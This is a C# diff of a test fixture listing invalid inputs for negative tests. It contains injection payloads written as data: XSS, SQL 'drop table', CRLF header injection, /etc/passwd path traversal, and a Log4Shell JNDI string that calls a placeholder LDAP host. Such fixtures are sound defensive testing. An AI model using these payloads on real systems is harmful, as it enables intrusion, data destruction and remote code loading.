@@ -6,7 +6,8 @@ internal static class WrongInputs
 {
     public static IReadOnlyList<string> Texts { get; } =
     [
-        "", " ", "-1", "0", "Bogus", "0.0.0.0/0", "::/0", "255.255.255.255", "é\u202e\u2028", "a\r\nSet-Cookie: b", "<script>alert(1)</script>",
+        "", " ", "-1", "0", "Bogus", "0.0.0.0/0", "::/0", "255.255.255.255", "é\u202e\u2028", "a\r\nSet-Cookie: b",
+            "<script>alert(1)</script>",
         "'; drop table Peerings; --", "../../etc/passwd", "%00%2e%2e", "${jndi:ldap://198.51.100.1/a}", new string('a', 64),
         new string('9', 5000), "\ud83d\udc4d",
     ];
